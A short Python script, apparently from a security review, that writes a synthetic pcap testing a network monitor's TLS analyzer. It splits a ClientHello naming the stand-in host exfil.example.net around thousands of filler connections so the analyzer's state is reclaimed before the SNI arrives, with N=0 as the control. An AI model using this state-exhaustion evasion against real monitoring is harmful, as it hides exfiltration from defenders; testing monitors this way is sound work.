#!/usr/bin/python3
"""reclaim_tls.py OUT.pcap [N] - reclaim_hide.py with TLS: connection T to :443 sends
the first 40 bytes of a ClientHello record (the TLS analyzer claims it and waits),
N (default 4,200) filler connections fill the cap as in reclaim_hide.py, then T
sends the rest of the hello (SNI exfil.example.net). With N = 0: the control."""
import sys, struct
import os
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "review18"))
from pcapgen import Pcap, Conn  # review18's TCP conversation writer
out = sys.argv[1]; n = int(sys.argv[2]) if len(sys.argv) > 2 else 4200
name = b"exfil.example.net"
sni = struct.pack("!HBH", len(name) + 3, 0, len(name)) + name
exts = struct.pack("!HH", 0, len(sni)) + sni + struct.pack("!HHB", 43, 3, 2) + b"\x03\x04"
body = b"\x03\x03" + bytes(32) + b"\x00" + b"\x00\x02\x13\x01" + b"\x01\x00" + struct.pack("!H", len(exts)) + exts
hs = b"\x01" + len(body).to_bytes(3, "big") + body
rec = b"\x16\x03\x01" + struct.pack("!H", len(hs)) + hs
p = Pcap(out)
t = Conn(p, "10.1.0.2", 45001, "10.9.0.44", 443)
t.send(rec[:40])
for i in range(n):
    c = Conn(p, "10.1.0.%d" % (3 + i // 30000), 10000 + i % 30000, "10.9.1.%d" % (1 + i % 200), 9000)
    c.send(b"Z" * 16000, mss=1448)
t.send(rec[40:])
t.fin()
p.close()
